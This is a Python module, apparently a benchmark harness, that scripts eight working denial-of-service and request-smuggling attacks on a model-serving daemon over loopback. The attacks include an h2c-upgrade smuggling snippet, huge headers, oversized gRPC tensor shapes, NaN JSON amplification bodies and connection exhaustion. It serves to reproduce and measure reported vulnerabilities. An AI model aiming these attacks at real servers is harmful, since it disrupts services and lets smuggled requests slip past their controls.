"""The attacks of issue 21 (findings 1-7) for bench/hostile.py, over loopback sockets.

Each attack runs in a child process of its own (`attacker`), so its work shares no GIL
with the steady client that measures the damage: the child prepares (builds its bodies,
raises its file limit), says it is ready, waits for the go, attacks until its deadline
and puts what it saw (status codes, closes, counts) on a queue. Every attack is bounded
in count and in time; none sends anything after its deadline, and a request already in
flight waits at most `GRACE_S` more for its answer.
"""

from __future__ import annotations

import re
import resource
import select
import selectors
import socket
import threading
import time
import traceback
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

GRACE_S = 30.0  # how long an answer in flight is waited for past the deadline
PREDICT_PATH = "/tensorflow.serving.PredictionService/Predict"

ATTACKS: dict[int, str] = {
    0: "none (the same timeline, no attack)",
    1: "smuggling: POST with Connection: Upgrade, Upgrade: h2c and a body sent late",
    2: "huge headers: one 64 MiB header sent 1 MiB at a time, up to 3 times",
    3: "URL cache: 300 predicts to different 1 MiB model names",
    4: "gRPC fill-out: PredictRequest shape [2^28, 1] with float_val [1.0] (and an alias)",
    5: "JSON amplification: 60 MB bodies of 10M rows [NaN], 2 at a time, up to 4",
    6: "silent connections: 3,000 connections that never send, held",
    7: "live page streams: 300 /modelwatch/ui/events streams held open and read",
    8: "body flood: 16 connections each sending a 60 MB body of [NaN] rows at once",
}


@dataclass(frozen=True)
class Target:
    """Where the daemon listens and what it serves."""

    rest_port: int
    grpc_port: int
    model: str
    host: str = "127.0.0.1"

    @property
    def host_header(self) -> bytes:
        return f"{self.host}:{self.rest_port}".encode()


# Anywhere: a response follows the last one's body directly, with no line break.
_STATUS = re.compile(rb"HTTP/1\.[01] (\d{3}) ")


def status_codes(data: bytes) -> list[int]:
    """The status codes of the HTTP/1.1 responses in `data`, in order."""
    return [int(code) for code in _STATUS.findall(data)]


def counted(values: list[Any]) -> dict[str, int]:
    return {str(k): v for k, v in sorted(Counter(values).items(), key=lambda kv: str(kv[0]))}


def _connect(target: Target, timeout: float = 10.0) -> socket.socket:
    sock = socket.create_connection((target.host, target.rest_port), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def _read_until_close(sock: socket.socket, until: float, limit: int = 1 << 20) -> tuple[bytes, str]:
    """What the server sends before it closes or `until` passes: (data, how it ended)."""
    data = b""
    while len(data) < limit:
        left = until - time.monotonic()
        if left <= 0:
            return data, "open"
        sock.settimeout(left)
        try:
            chunk = sock.recv(65536)
        except TimeoutError:
            return data, "open"
        except OSError as error:
            return data, type(error).__name__
        if not chunk:
            return data, "closed"
        data += chunk
    return data, "open"


def _predict_request(target: Target, path: bytes, body: bytes) -> bytes:
    return (b"POST " + path + b" HTTP/1.1\r\nHost: " + target.host_header
            + b"\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
            + body)


# ---- 1 -----------------------------------------------------------------------------


def smuggling(target: Target, deadline: float, tries: int = 20) -> dict[str, Any]:
    """The issue's snippet, repeated: a smuggled answer is the GET's (its status JSON)."""
    model = target.model.encode()
    inner = b"GET /v1/models/" + model + b" HTTP/1.1\r\nHost: " + target.host_header + b"\r\n\r\n"
    head = (b"POST /v1/models/" + model + b":predict HTTP/1.1\r\nHost: " + target.host_header
            + b"\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: %d\r\n\r\n" % len(inner))
    seen: list[str] = []
    smuggled = 0
    while len(seen) < tries and time.monotonic() < deadline:
        with _connect(target) as sock:
            sock.sendall(head)
            time.sleep(0.2)  # the body arrives after the head has been answered
            try:
                sock.sendall(inner)
            except OSError:
                pass  # the server closed: the body cannot be read as a request
            data, end = _read_until_close(sock, time.monotonic() + 1.0)
        smuggled += b"model_version_status" in data
        seen.append(",".join(map(str, status_codes(data))) + f" {end}")
    return {"tries": len(seen), "smuggled_answers": smuggled, "responses": counted(seen),
            "saw": f"{smuggled} of {len(seen)} tries smuggled an answer"}


# ---- 2 -----------------------------------------------------------------------------


def huge_headers(target: Target, deadline: float, total: int = 64 << 20, chunk: int = 1 << 20,
                 tries: int = 3) -> dict[str, Any]:
    """One header of `total` bytes sent `chunk` at a time; sending stops when the server
    answers or closes (or at the deadline)."""
    filler = b"a" * chunk
    runs = []
    while len(runs) < tries and time.monotonic() < deadline:
        started, sent, how = time.monotonic(), 0, "whole header"
        with _connect(target) as sock:
            try:
                sock.sendall(b"POST /v1/models/" + target.model.encode() + b":predict HTTP/1.1"
                             b"\r\nHost: " + target.host_header + b"\r\nX-Filler: ")
                while sent < total:
                    if time.monotonic() >= deadline:
                        how = "deadline"
                        break
                    ready, _, _ = select.select([sock], [], [], 0)
                    if ready:  # an answer or a close: stop sending
                        how = "server spoke first"
                        break
                    sock.sendall(filler)
                    sent += chunk
                if how == "whole header":
                    sock.sendall(b"\r\nContent-Length: 2\r\n\r\n{}")
            except OSError as error:
                how = type(error).__name__
            data, end = _read_until_close(sock, min(deadline + GRACE_S, time.monotonic() + 15))
        runs.append({"header_mib_sent": round(sent / 2**20, 1), "sending": how,
                     "statuses": status_codes(data), "end": end,
                     "seconds": round(time.monotonic() - started, 2)})
    saw = "; ".join(f"{r['header_mib_sent']:g} MiB sent ({r['sending']}), answer "
                    f"{r['statuses'] or '-'} ({r['end']}) after {r['seconds']}s" for r in runs)
    return {"tries": runs, "saw": saw}


# ---- 3 -----------------------------------------------------------------------------


def url_cache(target: Target, deadline: float, count: int = 300,
              name_bytes: int = 1 << 20) -> dict[str, Any]:
    """Predicts to `count` different model names of `name_bytes` each, one connection each."""
    statuses: list[str] = []
    body = b'{"instances": [[1.0]]}'
    for number in range(count):
        if time.monotonic() >= deadline:
            break
        name = b"%07d" % number + b"n" * (name_bytes - 7)
        request = _predict_request(target, b"/v1/models/" + name + b":predict", body)
        try:
            with _connect(target) as sock:
                sock.sendall(request)
                data, _ = _read_until_close(sock, time.monotonic() + 10, limit=4096)
            codes = status_codes(data)
            statuses.append(str(codes[0]) if codes else "no answer")
        except OSError as error:
            statuses.append(type(error).__name__)
    return {"requests": len(statuses), "statuses": counted(statuses),
            "saw": f"{len(statuses)} requests: {counted(statuses)}"}


# ---- 4 -----------------------------------------------------------------------------


def fillout_requests(model: str) -> list[tuple[str, bytes]]:
    """The serialized PredictRequests of finding 4 (built in the parent, which has the
    protos): shape [2^28, 1] with one float_val, and the same with one input not in the
    signature beside it."""
    from tensorflow.core.framework import types_pb2
    from tensorflow_serving.apis import predict_pb2

    def request(inputs: list[str]) -> bytes:
        message = predict_pb2.PredictRequest()
        message.model_spec.name = model
        for name in inputs:
            tensor = message.inputs[name]
            tensor.dtype = types_pb2.DT_FLOAT
            tensor.tensor_shape.dim.add().size = 2**28
            tensor.tensor_shape.dim.add().size = 1
            tensor.float_val.append(1.0)
        return bytes(message.SerializeToString())

    single = request(["x"])
    return [("x", single), ("x + alias", request(["x", "x_alias"])), ("x", single)]


def grpc_fillout(target: Target, deadline: float,
                 requests: list[tuple[str, bytes]]) -> dict[str, Any]:
    """Each request once, in turn, while the deadline allows (raw bytes on the channel)."""
    import grpc

    calls = []
    with grpc.insecure_channel(f"{target.host}:{target.grpc_port}") as channel:
        predict = channel.unary_unary(PREDICT_PATH)
        for label, message in requests:
            if time.monotonic() >= deadline:
                break
            started = time.monotonic()
            code, details = "OK", ""
            try:
                predict(message, timeout=max(1.0, deadline - started) + GRACE_S)
            except grpc.RpcError as error:
                code = error.code().name if isinstance(error, grpc.Call) else type(error).__name__
                # Message-size limits on either side speak here too: keep what they say.
                details = str(error.details())[:160] if isinstance(error, grpc.Call) else ""
            calls.append({"request": label, "bytes": len(message), "status": code,
                          "details": details, "seconds": round(time.monotonic() - started, 2)})
    return {"calls": calls,
            "saw": ", ".join(f"{c['request']}: {c['status']} in {c['seconds']}s" for c in calls)}


# ---- 5 -----------------------------------------------------------------------------


def nan_rows_body(rows: int = 10_000_000) -> bytes:
    """{"instances": [[NaN], [NaN], ...]}: 6 bytes a row."""
    return b'{"instances":[' + b"[NaN]," * (rows - 1) + b"[NaN]]}"


def json_amplification(target: Target, deadline: float, body: bytes, concurrent: int = 2,
                       each: int = 2) -> dict[str, Any]:
    """`concurrent` senders, each sending `body` up to `each` times while time remains."""
    request = _predict_request(target, b"/v1/models/" + target.model.encode() + b":predict", body)
    outcomes: list[dict[str, Any]] = []

    def sender() -> None:
        for _ in range(each):
            if time.monotonic() >= deadline:
                return
            started = time.monotonic()
            try:
                with _connect(target, timeout=GRACE_S) as sock:
                    sock.sendall(request)
                    data, end = _read_until_close(sock, deadline + GRACE_S, limit=4096)
                codes = status_codes(data)
                outcome = str(codes[0]) if codes else f"no answer ({end})"
            except OSError as error:
                outcome = type(error).__name__
            outcomes.append({"status": outcome, "seconds": round(time.monotonic() - started, 2)})

    threads = [threading.Thread(target=sender) for _ in range(concurrent)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    statuses = counted([o["status"] for o in outcomes])
    slowest = max((o["seconds"] for o in outcomes), default=0)
    return {"body_mb": round(len(body) / 1e6, 1), "requests": outcomes,
            "saw": f"{len(outcomes)} bodies: {statuses}, slowest {slowest}s"}


# ---- 6 and 7 -------------------------------------------------------------------------


def _hold(socks: list[socket.socket], deadline: float, started: float) -> dict[str, Any]:
    """Read every socket until the deadline: bytes, snapshot events, statuses, closes."""
    selector = selectors.DefaultSelector()
    heads: dict[int, bytes] = {}  # the first bytes each socket received, for its status
    for sock in socks:
        sock.setblocking(False)
        selector.register(sock, selectors.EVENT_READ)
    closes: list[float] = []
    received = events = 0
    while selector.get_map() and (left := deadline - time.monotonic()) > 0:
        for key, _ in selector.select(min(left, 0.5)):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            try:
                chunk = sock.recv(65536)
            except OSError:
                chunk = b""
            if chunk:
                received += len(chunk)
                events += chunk.count(b"event: snapshot")
                if len(heads.get(key.fd, b"")) < 256:
                    heads[key.fd] = heads.get(key.fd, b"") + chunk[:256]
                continue
            closes.append(time.monotonic() - started)
            selector.unregister(sock)
            sock.close()
    selector.close()
    firsts = [str(codes[0]) for codes in map(status_codes, heads.values()) if codes]
    return {"closed_by_server": len(closes),
            "first_close_s": round(min(closes), 2) if closes else None,
            "statuses": counted(firsts), "bytes_received": received, "snapshot_events": events}


def _open_many(target: Target, count: int, deadline: float) -> tuple[list[socket.socket], list[str]]:
    socks, errors = [], []
    for _ in range(count):
        if time.monotonic() >= deadline:
            break
        try:
            socks.append(_connect(target, timeout=2.0))
        except OSError as error:
            errors.append(type(error).__name__)
    return socks, errors


def silent_connections(target: Target, deadline: float, count: int = 3000) -> dict[str, Any]:
    started = time.monotonic()
    socks, errors = _open_many(target, count, deadline)
    opened = time.monotonic() - started
    try:
        held = _hold(socks, deadline, started)
    finally:
        for sock in socks:
            sock.close()
    return {"opened": len(socks), "open_seconds": round(opened, 2), "connect_errors": counted(errors),
            **held, "saw": f"{len(socks)} open in {opened:.1f}s, {held['closed_by_server']} closed "
                           f"by the server" + (f" (first at {held['first_close_s']}s)"
                                               if held["closed_by_server"] else "")
                           + (f", connect errors {counted(errors)}" if errors else "")}


def page_streams(target: Target, deadline: float, count: int = 300) -> dict[str, Any]:
    started = time.monotonic()
    socks, errors = _open_many(target, count, deadline)
    request = b"GET /modelwatch/ui/events HTTP/1.1\r\nHost: " + target.host_header + b"\r\n\r\n"
    for sock in socks:
        try:
            sock.sendall(request)
        except OSError as error:
            errors.append(type(error).__name__)
    try:
        held = _hold(socks, deadline, started)
    finally:
        for sock in socks:
            sock.close()
    return {"opened": len(socks), "connect_errors": counted(errors), **held,
            "saw": f"{len(socks)} streams, statuses {held['statuses']}, "
                   f"{held['snapshot_events']} events, {held['closed_by_server']} closed"}


# ---- the child process ---------------------------------------------------------------


def attacker(number: int, target: Target, duration: float, payload: Any,
             ready: Any, go: Any, results: Any) -> None:
    """The child's body: prepare, say ready, wait for the go, attack for `duration`."""
    try:
        _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # 3,000 sockets
        attack: Callable[[float], dict[str, Any]]
        if number == 0:
            def attack(deadline: float) -> dict[str, Any]:
                time.sleep(max(0.0, deadline - time.monotonic()))
                return {"saw": "-"}
        elif number in (5, 8):
            body = nan_rows_body()
            senders, each = (2, 2) if number == 5 else (16, 1)
            def attack(deadline: float) -> dict[str, Any]:
                return json_amplification(target, deadline, body, senders, each)
        elif number == 4:
            def attack(deadline: float) -> dict[str, Any]:
                return grpc_fillout(target, deadline, payload)
        else:
            chosen = {1: smuggling, 2: huge_headers, 3: url_cache, 6: silent_connections,
                      7: page_streams}[number]
            def attack(deadline: float) -> dict[str, Any]:
                return chosen(target, deadline)
        ready.set()
        go.wait()
        started = time.monotonic()
        result = attack(started + duration)
        result["attack_seconds"] = round(time.monotonic() - started, 2)
        results.put(result)
    except Exception:  # the parent reports it beside the figures
        ready.set()
        results.put({"error": traceback.format_exc()[-2000:], "saw": "the attacker failed"})
